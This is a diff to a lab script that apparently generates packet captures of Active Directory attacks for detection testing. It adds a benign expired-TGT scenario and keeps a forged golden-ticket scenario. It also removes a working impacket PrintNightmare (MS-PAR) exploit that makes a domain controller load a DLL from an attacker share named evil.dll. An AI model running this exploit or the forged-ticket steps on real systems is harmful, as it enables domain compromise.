@@ -7,7 +7,7 @@
 #             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
 #             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename \
 #             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration printnightmare \
-#             gpo_defender_disabled benign_gpo_edit golden_ticket_lifetime overpass_windows_workstation printnightmare_par \
+#             gpo_defender_disabled benign_gpo_edit golden_ticket_lifetime benign_expired_tgt overpass_windows_workstation \
 #             ntlm_relay_exchange_account" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
@@ -748,14 +748,14 @@ kdc_user_ticket_lifetime() {   # kdc_user_ticket_lifetime HOURS
 # shortest Samba takes), a TGT forged with impacket ticketer (ten years, its default) is used
 # for a service ticket, and again 67 minutes later; the KDC honours it both times. Beside it
 # the workstation's users do what honest clients do across the same hour: alice's renewable
-# TGT is renewed at 40 minutes and the renewed one used at 67; carol's impacket TGT is
-# presented once more after it expired, and the KDC refuses it (KRB_AP_ERR_TKT_EXPIRED).
+# TGT is renewed at 40 minutes and the renewed one used at 67; carol takes an impacket TGT,
+# which benign_expired_tgt presents after it expired.
 sc_golden_ticket_lifetime() {
   krbtgt_keys
   local sid forged=Administrator rid=500; sid=$(cat "$WORK/domain.sid")
   kdc_user_ticket_lifetime 1
   cap_begin golden_ticket_lifetime attack T1558.001 "$ATK_IP" "$forged (forged TGT, 10-year lifetime), cifs/$DCFQDN, ldap/$DCFQDN" \
-    "Golden ticket used past the maximum user-ticket lifetime: with the KDC's policy at 1 hour, a TGT for $forged forged with the krbtgt AES key by impacket ticketer (lifetime ten years, its default) is presented in a TGS-REQ and again 67 minutes later, both answered. The workstation meanwhile renews alice's TGT at 40 minutes and uses the renewed one at 67, and presents carol's expired impacket TGT at 67 (refused, KRB_AP_ERR_TKT_EXPIRED)."
+    "Golden ticket used past the maximum user-ticket lifetime: with the KDC's policy at 1 hour, a TGT for $forged forged with the krbtgt AES key by impacket ticketer (lifetime ten years, its default) is presented in a TGS-REQ and again 67 minutes later, both answered. The workstation meanwhile renews alice's TGT at 40 minutes and uses the renewed one at 67; carol's impacket TGT, taken at the start, is presented after it expired in benign_expired_tgt."
   workstation_logons
   EXTRA_ENV=$(cc ws-life-alice) on_in "$ALICE_PASS" ws 30 -- kinit -r 3h "alice@$REALM"
   EXTRA_ENV=$(cc ws-life-alice) on ws -- kvno "cifs/$DCFQDN@$REALM"
@@ -769,12 +769,23 @@ sc_golden_ticket_lifetime() {
   EXTRA_ENV=$(cc ws-life-alice) on ws -- kinit -R
   sleep 1620
   EXTRA_ENV=$(cc ws-life-alice) on ws -- kvno "ldap/$DCFQDN@$REALM"
-  EXTRA_ENV=$(cc ws-life-carol) on ws -- "$VPY" "$IMP/getST.py" -k -no-pass -dc-ip "$DC_IP" -spn "ldap/$DCFQDN" "$DNSDOM/carol"
   EXTRA_ENV=$(cc atk-golden-life) on atk -- kvno "ldap/$DCFQDN@$REALM"
   expect "kerberos.msg_type==13 && ip.dst==$ATK_IP" 2
-  expect "kerberos.error_code==32 && ip.dst==$WS_IP"
   cap_end
   kdc_user_ticket_lifetime 10
+}
+
+SCEN_LIST="$SCEN_LIST benign_expired_tgt"
+
+# Right after golden_ticket_lifetime: carol's impacket TGT from its start (one-hour policy,
+# now expired) presented for a service ticket; the KDC refuses it. Read after that recording,
+# a late use the KDC refused.
+sc_benign_expired_tgt() {
+  cap_begin benign_expired_tgt benign none "$WS_IP" "carol" \
+    "A TGT presented after it expired: carol's impacket TGT, issued at the start of golden_ticket_lifetime under a one-hour policy, presented for ldap/$DCFQDN more than an hour later (impacket getST with the saved ticket); the KDC refuses it (KRB_AP_ERR_TKT_EXPIRED)."
+  EXTRA_ENV="KRB5CCNAME=$WORK/cc/ws-life-carol" on ws -- "$VPY" "$IMP/getST.py" -k -no-pass -dc-ip "$DC_IP" -spn "ldap/$DCFQDN" "$DNSDOM/carol"
+  expect "kerberos.error_code==32 && ip.dst==$WS_IP"
+  cap_end
 }
 
 SCEN_LIST="$SCEN_LIST overpass_windows_workstation"
@@ -816,56 +827,6 @@ sync_directory() {   # sync_directory NAME
     --bind-dn "Administrator@$DNSDOM" --password-file "$WORK/tmp/admin.pw" \
     -o "$OUT/$1.snapshot.json" >> "$OUT/.meta/$1/output.log" 2>&1
   rm -f "$WORK/tmp/admin.pw"
-}
-
-SCEN_LIST="$SCEN_LIST printnightmare_par"
-
-# PrintNightmare over MS-PAR (as SharpPrintNightmare and impacket-based exploits offer it):
-# RpcAsyncAddPrinterDriver on IRemoteWinspool, found through the endpoint mapper, over TCP and
-# sealed (packet privacy, as MS-PAR requires), with the same driver as printnightmare.
-par_driver_tool() {
-  mkdir -p "$WORK/tools"
-  cat > "$WORK/tools/add_driver_par.py" <<'PYEOF'
-# usage: add_driver_par.py DOMAIN USER PASSWORD HOST DLL_UNC
-import sys
-from impacket.dcerpc.v5 import transport, par, rprn, epm
-from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
-dom, user, pw, host, dll = sys.argv[1:6]
-binding = epm.hept_map(host, par.MSRPC_UUID_PAR, protocol='ncacn_ip_tcp')
-print('endpoint', binding)
-t = transport.DCERPCTransportFactory(binding)
-t.set_credentials(user, pw, dom, '', '')
-dce = t.get_dce_rpc()
-dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
-dce.connect()
-dce.bind(par.MSRPC_UUID_PAR)
-container = rprn.DRIVER_CONTAINER()
-container['Level'] = 2
-container['DriverInfo']['tag'] = 2
-info = container['DriverInfo']['Level2']
-info['cVersion'] = 3
-info['pName'] = 'Orthrus Lab Driver\x00'
-info['pEnvironment'] = 'Windows x64\x00'
-info['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
-info['pDataFile'] = dll + '\x00'
-info['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll\x00'
-try:
-    par.hRpcAsyncAddPrinterDriver(dce, pName='\\\\%s\x00' % host, pDriverContainer=container,
-                                  dwFileCopyFlags=rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000)
-    print('driver added')
-except Exception as e:
-    print('refused:', e)
-PYEOF
-}
-
-sc_printnightmare_par() {
-  par_driver_tool
-  cap_begin printnightmare_par attack T1210 "$ATK_IP" "$DCFQDN (Print Spooler driver, MS-PAR)" \
-    "PrintNightmare over MS-PAR: with a phished account ($RECON_USER), RpcAsyncAddPrinterDriver on IRemoteWinspool (endpoint mapper, then TCP, sealed with packet privacy) asking the DC's spooler to install a driver whose data file is a DLL on the attacker's share."
-  on atk 60 -- "$VPY" "$WORK/tools/add_driver_par.py" "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "\\\\$ATK_IP\\share\\evil.dll"
-  expect 'dcerpc.cn_bind_to_uuid == 76f03f96-cdfd-44fc-a22c-64950a001209'
-  expect 'dcerpc.opnum == 39 && dcerpc.pkt_type == 0'
-  cap_end
 }
 
 SCEN_LIST="$SCEN_LIST ntlm_relay_exchange_account"
